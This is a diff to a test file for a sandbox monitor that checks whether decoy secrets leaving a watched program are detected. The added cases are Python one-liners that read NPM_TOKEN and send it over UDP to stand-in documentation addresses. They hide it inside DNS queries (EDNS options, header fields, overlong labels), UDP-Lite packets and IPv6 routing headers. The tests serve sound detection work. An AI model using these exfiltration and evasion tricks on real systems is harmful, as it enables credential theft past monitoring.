@@ -2,6 +2,7 @@
 """What a watched program does is seen, and no program makes its own record lie."""
 
 import dataclasses
+import errno
 import sys
 
 import pytest
@@ -10,6 +11,7 @@ from plugins.sandbox import Limits, availability
 from plugins.sandbox.limits import MIB
 from plugins.sandbox.watch import Decoys, Phase, unavailable, watch
 from plugins.sandbox.watch.contract import PHASE_LIMITS
+from plugins.sandbox.watch.sink.dns import unanswered
 from tests.support import available
 
 QUICK = dataclasses.replace(PHASE_LIMITS, wall_seconds=4)
@@ -235,9 +237,19 @@ def test_a_part_alone_is_no_decoy_that_left():
         "s.connect((to, 9999)); os.write(s.fileno(), t)",
         "s.sendto(t[:12], (to, 123)); s.sendto(t[12:], (to, 124))",
         "s.bind(('', 54)); s.sendmsg([b'x' * 9000, t], [], 0, (to, 9999))",
+        "s.sendto(t, (to, 53))",
+        "s.sendto(query + t, (to, 53))",
+        "s.sendto(query[:10] + b'\\0\\1' + query[12:] + b'\\0\\0\\x29\\4\\0\\0\\0\\0\\0\\0\\x18' + t, (to, 53))",
+        "s.sendto(query[:2] + t[:10] + query[12:], (to, 53)); s.sendto(query + t[10:], (to, 53))",
+        "s.sendto(query[:12] + bytes([63]) + b'x' * 63 + bytes([10]) + t, (to, 53))",
+        "s.sendto(query[:12] + (bytes([63]) + b'x' * 63) * 4 + bytes([24]) + t + query[-5:], (to, 53))",
+        "s.sendto(query + b'x' * 5000 + t, (to, 53))",
     ],
-    ids=["sent", "written", "in parts", "behind much else"],
-)
+    ids=[
+        "sent", "written", "in parts", "behind much else", "to the resolver", "behind a query", "in its options",
+        "in its header", "in a query that breaks off", "in a name too long", "behind much else to the resolver",
+    ],
+)  # fmt: skip
 @pytest.mark.parametrize("to", ["203.0.113.9", "2001:db8::9"])
 def test_a_decoy_that_leaves_in_datagrams_is_known_again(send, to):
     family = "AF_INET6" if ":" in to else "AF_INET"
@@ -245,6 +257,7 @@ def test_a_decoy_that_leaves_in_datagrams_is_known_again(send, to):
         python(
             "import os, socket\n"
             f"t, to = os.environ['NPM_TOKEN'].encode(), {to!r}\n"
+            "query = bytes.fromhex('123401000001000000000000') + b'\\1a\\7example\\0\\0\\1\\0\\1'\n"
             f"s = socket.socket(socket.{family}, socket.SOCK_DGRAM)\n" + send
         )
     )
@@ -252,6 +265,52 @@ def test_a_decoy_that_leaves_in_datagrams_is_known_again(send, to):
     assert record.complete
     assert {(leak.name, leak.channel, leak.target) for leak in record.leaks} == {("$NPM_TOKEN", "udp", to)}
     assert {socket.address for socket in record.sockets} == {to}
+
+
+@pytest.mark.parametrize(
+    ("extra", "behind", "left"),
+    [
+        (0, b"", b""),
+        (1, b"\0\0\x29\4\xd0\0\0\0\0\0\0", b""),
+        (1, b"\0\0\x29\4\xd0\0\0\0\0\0\5hello", b"hello"),
+        (1, b"\0\0\x29\4\xd0\0\0\0\0\0\4hello", b"\0\0\x29\4\xd0\0\0\0\0\0\4hello"),
+        (0, b"hello", b"hello"),
+    ],
+    ids=["plain", "with EDNS", "with options", "with a wrong length", "with something behind"],
+)
+def test_of_a_query_only_what_the_resolver_does_not_read_is_left_to_search(extra, behind, left):
+    head = bytes.fromhex("1234012000010000000000") + bytes([extra])
+
+    assert unanswered(head + b"\1a\7example\0\0\1\0\1" + behind) == left
+
+
+@pytest.mark.parametrize(
+    ("made", "channel"),
+    [
+        ("socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDPLITE)", "udp"),
+        ("socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDPLITE); s.bind(('', 53))", "udp"),
+        ("socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.setsockopt(41, 57, routing)", "ip"),
+    ],
+    ids=["UDP-Lite", "UDP-Lite from the resolver's port", "behind a routing header"],
+)
+def test_a_decoy_that_leaves_in_other_packets_is_known_again(made, channel):
+    """41 is IPPROTO_IPV6, 57 IPV6_RTHDR; the header is of type 4 (RFC 8754): anybody may set it."""
+    record = one(
+        python(
+            "import os, socket\n"
+            "t, to = os.environ['NPM_TOKEN'].encode(), '203.0.113.9'\n"
+            "routing = bytes([0, 2, 4, 0, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, '2001:db8::9')\n"
+            f"try: s = {made}\n"
+            "except OSError as problem: raise SystemExit(problem.errno)\n"
+            "if s.family == socket.AF_INET6: to = '2001:db8::9'\n"
+            "s.sendto(b'x' * 2000 + t, (to, 9999))\n"
+        )
+    )
+
+    if record.returncode in {errno.EPROTONOSUPPORT, errno.EINVAL}:
+        pytest.skip("this kernel has no UDP-Lite, or no segment routing")
+    assert (record.complete, record.stderr) == (True, b"")
+    assert {(leak.name, leak.channel) for leak in record.leaks} == {("$NPM_TOKEN", channel)}
 
 
 def test_gzip_hides_no_decoy():
